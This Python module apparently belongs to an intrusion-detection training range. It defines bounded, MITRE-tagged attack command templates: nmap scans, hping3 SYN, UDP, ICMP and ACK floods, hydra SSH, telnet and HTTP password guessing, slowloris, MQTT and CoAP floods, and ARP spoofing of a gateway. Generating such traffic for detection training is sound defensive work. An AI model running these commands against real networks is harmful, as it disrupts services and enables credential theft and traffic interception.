"""The technique library: named, bounded attacks run with real tools.

Every entry of :data:`TECHNIQUES` is one small declarative :class:`Technique`: a name, its MITRE
ATT&CK ID, the real tool, a shell command template and its default intensity. Adding a technique is
adding one entry here (and, when it needs a service the range does not run yet, one service in
:mod:`training.range.recorder`).

Bounds
------
Every technique is bounded twice:

* **time** — the recorder runs the command under ``timeout -k 3 <duration + 5 s>`` and every template
  carries its own ``{duration}`` limit where the tool has one (``--host-timeout``, ``-l``);
* **count** — every template is bounded by ``{count}`` (packets, ports, connections, passwords or
  requests); ``count = round(default_count * intensity)``.

Flood rates follow from both: ``{interval_us}`` spreads ``count`` packets over 90 % of the duration
(never below 100 µs), so a flood stays a flood but the capture stays small.

Template placeholders
---------------------
``{target}`` victim address or CIDR, ``{duration}`` seconds (int), ``{count}``, ``{interval_us}``,
``{interval_s}``, ``{gateway}`` the site gateway address, ``{iface}`` attacker interface,
``{wordlist}`` a file of ``count`` passwords, ``{python}`` the interpreter running marlids,
``{rate}`` probes per second that spread ``count`` probes per host over 90 % of the duration
(``count * hosts / (0.9 * duration)``, at least 10; ``hosts`` = live hosts of a swept subnet),
``{sweep}`` the first ``count`` host addresses of a swept subnet in nmap range syntax (the target
itself for one host), ``{port}`` the destination port and ``{data}`` the payload size in bytes
(the technique's ``default_port`` / ``default_data`` unless the schedule entry sets ``port`` /
``payload_bytes``).

References
----------
MITRE ATT&CK Enterprise: T1046 Network Service Discovery; T1498.001 Network Denial of Service:
Direct Network Flood; T1110.001 Brute Force: Password Guessing; T1499.002 Endpoint Denial of Service:
Service Exhaustion Flood; T1557.002 Adversary-in-the-Middle: ARP Cache Poisoning. Host discovery
by ARP ping sweep (``nmap -sn``) is filed under T1046 with the scans, as the range's scan family.
"""

from __future__ import annotations

import ipaddress
import shlex
from dataclasses import dataclass

#: Kinds of target a technique accepts: one host, or a subnet sweep (CIDR).
TARGET_KINDS = ("host", "subnet")


@dataclass(frozen=True)
class Technique:
    """One attack technique of the library.

    Parameters
    ----------
    name : str
        Library key, snake_case (``hping3_syn_flood``).
    technique_id : str
        MITRE ATT&CK technique or sub-technique ID (``T1498.001``).
    tool : str
        Executable that must be on ``PATH`` for the technique to run.
    command : str
        Shell command template (see the module docstring for placeholders).
    default_count : int
        Count bound at intensity 1.0 (packets, ports, passwords, connections, requests).
    default_duration_s : float
        Duration used when a schedule entry gives none, seconds.
    target : str
        ``"host"`` or ``"subnet"`` (sweeps; a host is accepted too).
    service : str or None
        Service the target must run (``ssh``, ``http``, ``mqtt``, ``coap``, ``telnet``, ``admin``), or None.
    description : str
        One line for ``marlids range techniques``.
    default_port : int or None
        Value of ``{port}`` unless the schedule sets ``port`` (None: the template has no ``{port}``).
    default_data : int or None
        Value of ``{data}`` (payload bytes) unless the schedule sets ``payload_bytes``.
    """

    name: str
    technique_id: str
    tool: str
    command: str
    default_count: int
    default_duration_s: float
    target: str = "host"
    service: str | None = None
    description: str = ""
    default_port: int | None = None
    default_data: int | None = None

    def render(
        self,
        *,
        target: str,
        duration_s: float,
        intensity: float = 1.0,
        gateway: str,
        iface: str = "eth0",
        wordlist: str = "",
        python: str = "python3",
        hosts: int = 1,
        port: int | None = None,
        data: int | None = None,
    ) -> tuple[str, int]:
        """Fill the command template.

        Parameters
        ----------
        target : str
            Victim address, or CIDR for a sweep.
        duration_s : float
            Time bound, seconds (> 0).
        intensity : float
            Multiplier of :attr:`default_count` (> 0).
        gateway, iface, wordlist, python : str
            Values of the matching placeholders.
        hosts : int
            Live hosts behind ``target`` (for ``{rate}`` of subnet sweeps).
        port : int, optional
            Destination port (``{port}``; default :attr:`default_port`).
        data : int, optional
            Payload size, bytes (``{data}``; default :attr:`default_data`).

        Returns
        -------
        command : str
            The shell command line.
        count : int
            The count bound used.

        Raises
        ------
        ValueError
            When ``duration_s`` or ``intensity`` is not positive, or ``port`` is outside 1..65535.
        """
        if duration_s <= 0:
            raise ValueError(f"duration_s={duration_s!r} for {self.name!r}; expected > 0")
        if intensity <= 0:
            raise ValueError(f"intensity={intensity!r} for {self.name!r}; expected > 0")
        count = max(1, round(self.default_count * intensity))
        port = self.default_port if port is None else port
        if port is not None and not 1 <= int(port) <= 65535:
            raise ValueError(f"port={port!r} for {self.name!r}; expected 1..65535")
        data = self.default_data if data is None else data
        interval_us = max(100, int(duration_s * 0.9e6 / count))
        cmd = self.command.format(
            target=shlex.quote(target),
            duration=max(1, int(duration_s)),
            count=count,
            interval_us=interval_us,
            interval_s=f"{interval_us / 1e6:.4f}",
            gateway=shlex.quote(gateway),
            iface=shlex.quote(iface),
            wordlist=shlex.quote(wordlist),
            python=shlex.quote(python),
            # a sweep probes each of its ``count`` addresses once: the rate spreads them, whatever ``hosts``
            rate=max(10, round(count * (1 if "{sweep}" in self.command else max(1, hosts)) / (0.9 * duration_s))),
            sweep=sweep_targets(target, count),
            port=port,
            data=data,
        )
        return cmd, count


def sweep_targets(target: str, count: int) -> str:
    """The first ``count`` host addresses of ``target`` in nmap range syntax (``target`` if one host).

    Examples
    --------
    >>> sweep_targets("10.1.0.0/16", 300)
    '10.1.0.1-255 10.1.1.0-44'
    >>> sweep_targets("10.1.0.7", 50)
    '10.1.0.7'
    """
    if "/" not in target:
        return shlex.quote(target)
    net = ipaddress.IPv4Network(target, strict=False)
    first, last = int(net.network_address) + 1, int(net.broadcast_address) - 1
    last = min(last, first + count - 1)
    terms, a = [], first
    while a <= last:
        block_end = min(last, (a | 0xFF))
        lo, hi = ipaddress.IPv4Address(a), ipaddress.IPv4Address(block_end)
        prefix = str(lo).rsplit(".", 1)[0]
        terms.append(f"{prefix}.{str(lo).rsplit('.', 1)[1]}-{str(hi).rsplit('.', 1)[1]}")
        a = block_end + 1
    return " ".join(terms)


_T = Technique

#: The library, keyed by technique name.
TECHNIQUES: dict[str, Technique] = {
    t.name: t
    for t in (
        _T("nmap_syn_scan", "T1046", "nmap",
           "nmap -n -sS -T4 --max-retries 1 --max-rate {rate} --host-timeout {duration}s -p 1-{count} {target}",
           default_count=1000, default_duration_s=20, target="subnet",
           description="TCP SYN port scan of a host or a subnet sweep (nmap -sS)"),
        _T("nmap_udp_scan", "T1046", "nmap",
           "nmap -n -sU -T4 --max-retries 1 --max-rate {rate} --host-timeout {duration}s --top-ports {count} {target}",
           default_count=100, default_duration_s=20, target="subnet",
           description="UDP port scan of the most common ports (nmap -sU)"),
        _T("nmap_version_scan", "T1046", "nmap",
           "nmap -n -sV --version-light -T4 --host-timeout {duration}s --top-ports {count} {target}",
           default_count=100, default_duration_s=20, target="subnet",
           description="service/version detection with banner grabbing (nmap -sV)"),
        _T("nmap_ack_scan", "T1046", "nmap",
           "nmap -n -sA -T4 --max-retries 1 --max-rate {rate} --host-timeout {duration}s -p 1-{count} {target}",
           default_count=500, default_duration_s=15, target="subnet",
           description="TCP ACK scan, firewall mapping (nmap -sA)"),
        _T("nmap_fin_scan", "T1046", "nmap",
           "nmap -n -sF -T4 --max-retries 1 --max-rate {rate} --host-timeout {duration}s -p 1-{count} {target}",
           default_count=500, default_duration_s=15, target="subnet",
           description="TCP FIN scan (nmap -sF)"),
        _T("nmap_ping_sweep", "T1046", "nmap",
           "nmap -n -sn -T4 --max-retries 0 --max-rate {rate} --host-timeout {duration}s {sweep}",
           default_count=254, default_duration_s=10, target="subnet",
           description="host discovery of the first <count> addresses, ARP ping on the LAN (nmap -sn)"),
        _T("hping3_syn_flood", "T1498.001", "hping3",
           "hping3 -q -S -p {port} -c {count} -i u{interval_us} {target}",
           default_count=3000, default_duration_s=12, default_port=8080,
           description="TCP SYN flood towards one port, by default the device UI (hping3 -S)"),
        _T("hping3_udp_flood", "T1498.001", "hping3",
           "hping3 -q --udp -p {port} -d {data} -c {count} -i u{interval_us} {target}",
           default_count=3000, default_duration_s=12, default_port=5683, default_data=64,
           description="UDP flood towards one port, by default CoAP (hping3 --udp)"),
        _T("hping3_icmp_flood", "T1498.001", "hping3",
           "hping3 -q --icmp -d {data} -c {count} -i u{interval_us} {target}",
           default_count=3000, default_duration_s=12, default_data=56,
           description="ICMP echo flood (hping3 --icmp)"),
        _T("hping3_ack_flood", "T1498.001", "hping3",
           "hping3 -q -A -p {port} -d {data} -c {count} -i u{interval_us} {target}",
           default_count=2500, default_duration_s=12, default_port=443, default_data=0,
           description="TCP ACK flood (hping3 -A), by default towards https"),
        _T("hydra_ssh_bruteforce", "T1110.001", "hydra",
           "hydra -I -q -l admin -P {wordlist} -t 4 -w 5 ssh://{target}",
           default_count=40, default_duration_s=25, service="ssh",
           description="SSH password guessing with a small wordlist (hydra)"),
        _T("hydra_telnet_bruteforce", "T1110.001", "hydra",
           "hydra -I -q -l admin -P {wordlist} -t 4 -w 5 telnet://{target}",
           default_count=30, default_duration_s=20, service="telnet",
           description="telnet password guessing against a device login (hydra)"),
        _T("hydra_http_basic_bruteforce", "T1110.001", "hydra",
           "hydra -I -q -l admin -P {wordlist} -t 4 -w 5 http-get://{target}/",
           default_count=300, default_duration_s=15, service="admin",
           description="HTTP basic-auth password guessing against a web admin page (hydra http-get)"),
        _T("slowloris", "T1499.002", "slowhttptest",
           "slowhttptest -H -c {count} -r 40 -i 4 -x 16 -p 3 -l {duration} -u http://{target}:8080/",
           default_count=150, default_duration_s=20, service="http",
           description="slow HTTP headers (slowloris) against the device web UI (slowhttptest -H)"),
        _T("mqtt_connect_flood", "T1499.002", "mosquitto_pub",
           "for i in $(seq {count}); do mosquitto_pub -h {target} -i flood-$i -t flood/$i -m x "
           ">/dev/null 2>&1 & sleep {interval_s}; done; wait",
           default_count=400, default_duration_s=12, service="mqtt",
           description="MQTT CONNECT/PUBLISH/DISCONNECT flood on the broker (mosquitto_pub loop)"),
        _T("mqtt_publish_flood", "T1499.002", "mosquitto_pub",
           "for i in $(seq {count}); do echo '{{\"flood\":'$i',\"pad\":\"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAA\"}}'; "
           "sleep {interval_s}; done | mosquitto_pub -h {target} -i pubflood -t home/flood -l -q 0",
           default_count=1500, default_duration_s=12, service="mqtt",
           description="MQTT PUBLISH flood over one connection (mosquitto_pub -l)"),
        _T("coap_request_flood", "T1499.002", "coap-client-notls",
           "for i in $(seq {count}); do coap-client-notls -m get -B 1 coap://{target}/time "
           ">/dev/null 2>&1 & sleep {interval_s}; done; wait",
           default_count=500, default_duration_s=12, service="coap",
           description="CoAP GET request flood (coap-client loop)"),
        _T("arp_spoof", "T1557.002", "python3",
           "{python} -m training.range.arpspoof --iface {iface} --victim {target} --spoof {gateway} "
           "--count {count} --interval {interval_s}",
           default_count=60, default_duration_s=15,
           description="ARP cache poisoning of a device, claiming the gateway address (scapy)"),
    )
}


def get_technique(name: str) -> Technique:
    """Return the technique called ``name``.

    Raises
    ------
    ValueError
        When ``name`` is not in :data:`TECHNIQUES`; the message lists the allowed names.
    """
    try:
        return TECHNIQUES[name]
    except KeyError:
        raise ValueError(f"unknown technique {name!r}; allowed: {', '.join(sorted(TECHNIQUES))}") from None
